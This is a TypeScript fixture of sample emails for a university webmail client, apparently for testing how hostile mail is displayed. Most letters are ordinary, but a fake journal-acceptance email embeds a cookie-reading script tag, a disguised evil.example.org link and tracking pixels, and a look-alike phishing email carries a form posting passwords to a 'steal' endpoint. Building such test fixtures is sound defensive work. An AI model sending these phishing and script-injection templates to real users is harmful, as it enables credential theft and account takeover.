/** Made-up letters such as a teacher gets, hostile ones among them. */
import type { PersonView } from '#web/webmail/model.ts';
import type { Unsubscribing } from '#web/webmail/reading/unsubscribe.ts';

export interface SampleLetter {
  readonly people: readonly PersonView[];
  readonly cc?: readonly PersonView[];
  readonly subject: string;
  readonly preview: string;
  readonly text?: string;
  readonly html?: string;
  readonly messageCount?: number;
  readonly isUnread?: boolean;
  readonly isFlagged?: boolean;
  readonly isMuted?: boolean;
  readonly isAnswered?: boolean;
  readonly labels?: readonly string[];
  readonly unsubscribing?: Unsubscribing;
  readonly attachments?: readonly (readonly [name: string, type: string, sizeBytes: number])[];
}

const person = (name: string, address: string): PersonView => ({ name, address });
const here = (name: string, local: string): PersonView => person(name, `${local}@example.edu.cn`);

export const SAMPLE_LETTERS: readonly SampleLetter[] = [
  {
    people: [here('教务处', 'jwc')],
    cc: [here('教学秘书', 'mishu')],
    subject: '关于2025—2026学年第二学期教学任务安排的通知',
    preview: '各学院、各教学单位：现将下学期教学任务安排的有关事宜通知如下，请各位老师于12月5日前登录教务系统核对……',
    text: `各学院、各教学单位：

现将 2025—2026 学年第二学期教学任务安排的有关事宜通知如下：

一、请各位老师于 12 月 5 日（星期五）17:00 前登录教务系统，核对本人的教学任务、周学时与合班信息。
二、需要调整上课时间或教室的，请填写附件中的申请表，经学院教学秘书汇总后统一提交。
三、实验课、上机课的分组请于 12 月 10 日前完成。

教务系统：https://jw.example.edu.cn/task?term=2026-1
如有疑问，请致电 0871-65910000 或回复本邮件。

教务处
2025 年 11 月 28 日`,
    isUnread: true,
    labels: ['teaching', 'urgent'],
    attachments: [
      ['教学任务调整申请表.docx', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document', 38_912],
      [
        '2025-2026-2 教学任务一览（全校）.xlsx',
        'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
        1_284_096,
      ],
    ],
  },
  {
    people: [here('李国栋', 'ligd'), here('欧阳震华', 'ouyang'), here('李国栋', 'ligd')],
    subject: '回复：周五组会改到下午三点？',
    preview: '可以，我把会议室订到五点。小王那边的实验数据也一起看一下吧，尤其是第二组的对照，我觉得还差一点……',
    text: '可以，我把会议室订到五点。\n\n小王那边的实验数据也一起看一下吧，尤其是第二组的对照，我觉得还差一点。\n\n国栋\n\n> 周五组会能不能改到下午三点？上午要去校医院。\n>\n> 震华',
    messageCount: 3,
    isUnread: true,
    labels: ['research'],
  },
  {
    people: [person('Elsevier Editorial System', 'em@editorialmanager.example')],
    unsubscribing: {
      by: 'oneClick',
      host: 'list.elsevier.example',
      otherwise: { by: 'page', url: 'https://list.elsevier.example/u?42', host: 'list.elsevier.example' },
    },
    subject: 'Decision on your manuscript ENGAI-D-25-01874R1',
    preview:
      'Dear Dr. Chen, We are pleased to inform you that your revised manuscript has been accepted for publication in …',
    html: `<div style="max-width:600px;margin:0 auto;font-family:Georgia,serif;color:#222">
<img src="https://tracker.example/logo.png" width="180" height="40" alt="Editorial System">
<h2 style="color:#b2551c;border-bottom:2px solid #eee;padding-bottom:8px">Your manuscript has been accepted</h2>
<p>Dear Dr. Chen,</p>
<p>We are pleased to inform you that your revised manuscript <b>ENGAI-D-25-01874R1</b>, “Graph priors for power-grid fault localisation”, has been accepted for publication.</p>
<table width="100%" cellpadding="10" style="background:#f7f3ee;border-collapse:collapse"><tr><td>Reviewer 1</td><td align="right"><b>Accept</b></td></tr><tr><td>Reviewer 2</td><td align="right"><b>Accept</b></td></tr></table>
<p style="text-align:center;margin:28px 0"><a href="https://pay.example.net/invoice/8841" style="background:#b2551c;color:#fff;padding:12px 24px;text-decoration:none;border-radius:4px">View decision</a></p>
<p>Proofs are at <a href="https://evil.example.org/login">https://www.editorialmanager.com/proofs</a>.</p>
<p>With kind regards,<br>The Editorial Office</p>
<script>alert(document.cookie)</script><img src="https://tracker.example/open.gif?id=1" width="1" height="1">
</div>`,
    isUnread: true,
    isFlagged: true,
    labels: ['research'],
  },
  {
    people: [person('信息化建设管理中心', 'notice@examp1e-edu.cn')],
    subject: '【重要】您的邮箱密码将于24小时后到期，请立即验证',
    preview: '尊敬的用户：系统检测到您的邮箱登录环境异常，请点击下方链接完成身份验证，逾期将停用您的账号……',
    html: `<p>尊敬的用户：</p><p>系统检测到您的邮箱登录环境异常，请点击下方链接完成身份验证，逾期将停用您的账号。</p>
<p><a href="http://198.51.100.7/verify?u=chenjy">https://mail.example.edu.cn/verify</a></p>
<form action="http://198.51.100.7/steal"><input name="password" placeholder="密码"><button>验证</button></form>`,
    isUnread: true,
  },
  {
    people: [person('Müller, Jürgen (TU Graz)', 'juergen.mueller@tugraz.example'), here('陈静宜', 'chenjy')],
    subject: 'Re: Visiting scholar 2026 – invitation letter',
    preview:
      'Dear Jingyi, thank you for the quick answer. The signed invitation letter is attached; the visa office usually needs …',
    text: 'Dear Jingyi,\n\nthank you for the quick answer. The signed invitation letter is attached; the visa office usually needs six weeks, so please apply soon.\n\nBest wishes,\nJürgen',
    messageCount: 4,
    isAnswered: true,
    attachments: [['Invitation_Chen_signed.pdf', 'application/pdf', 412_440]],
  },
  {
    people: [here('张雨桐', '20231204117')],
    subject: '陈老师好，操作系统实验三的延期申请',
    preview: '陈老师您好！我是计科231班的张雨桐，因为上周参加数学建模竞赛，实验三没能按时提交，想申请延期到下周一……',
    text: '陈老师您好！\n\n我是计科 231 班的张雨桐，因为上周参加数学建模竞赛，实验三没能按时提交，想申请延期到下周一，附件是学院的证明。\n\n给您添麻烦了，谢谢老师！\n\n张雨桐',
    isUnread: true,
    labels: ['teaching'],
    attachments: [
      ['竞赛证明.jpg', 'image/jpeg', 284_112],
      ['实验三（初稿）.zip', 'application/zip', 5_242_880],
    ],
  },
  {
    people: [here('图书馆', 'library')],
    unsubscribing: { by: 'letter', to: 'library-leave@example.edu.cn', subject: '退订', text: '' },
    subject: '您借阅的《设计数据密集型应用》等 2 册图书将于 3 日后到期',
    preview: '您好，您所借的以下图书即将到期，请及时归还或续借：1.《设计数据密集型应用》 2.《编译原理（第 2 版）》',
    text: '您好，您所借的以下图书即将到期，请及时归还或续借。',
  },
  {
    people: [here('财务处', 'cwc')],
    subject: '11月工资及绩效发放明细',
    preview: '您11月的工资及绩效已发放至尾号 6217 的工资卡，明细请登录财务综合服务平台查询。',
    text: '您 11 月的工资及绩效已发放。',
    isFlagged: true,
  },
  {
    people: [here('王秀英', 'wangxy'), here('陈静宜', 'chenjy')],
    subject: '转发：第十二届全国高校计算机教学研讨会征文',
    preview: '静宜，这个会你们组可以投一篇，去年咱们学院有三篇获奖。截稿时间是明年 1 月 15 日。',
    text: '静宜，这个会你们组可以投一篇，去年咱们学院有三篇获奖。',
    messageCount: 2,
    isAnswered: true,
    attachments: [['征文通知.pdf', 'application/pdf', 903_168]],
  },
  {
    people: [person('GitHub', 'noreply@github.example')],
    subject: '[lab/grid-fault] CI failed on main (#412)',
    preview:
      'Run failed: test (ubuntu-24.04, 3.13) – 2 of 318 tests failed. View the workflow run to see what went wrong.',
    text: 'Run failed.',
    labels: ['research'],
  },
  {
    people: [here('校工会', 'gonghui')],
    subject: '教职工羽毛球赛报名开始啦！',
    preview: '为丰富教职工文体生活，校工会定于12月中旬举办教职工羽毛球赛，欢迎各分工会组队报名。',
    text: '欢迎报名。',
  },
  {
    people: [person('阿卜杜热西提·吐尔逊', 'abdureshit@xju.example')],
    subject: 'عىلمىي يىغىن · 学术会议邀请',
    preview: '陈老师您好，诚邀您于明年四月来我校参加电力系统人工智能研讨会，并作大会报告。',
    text: '陈老师您好，诚邀您于明年四月来我校参加研讨会。',
    isFlagged: true,
  },
  {
    people: [here('研究生院', 'yjsy')],
    subject: '关于报送2026年博士研究生招生计划的通知',
    preview: '各学院：请于12月12日前报送2026年博士研究生招生计划及导师名单，逾期视为放弃。',
    text: '请按时报送。',
    attachments: [['招生计划汇总表.xlsx', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', 24_576]],
  },
  {
    people: [person('', 'no-reply@12306.example')],
    subject: '',
    preview: '您购买的 12月03日 G2882 次列车车票已出票，昆明南—贵阳北，二等座 05车12A号。',
    text: '已出票。',
  },
];
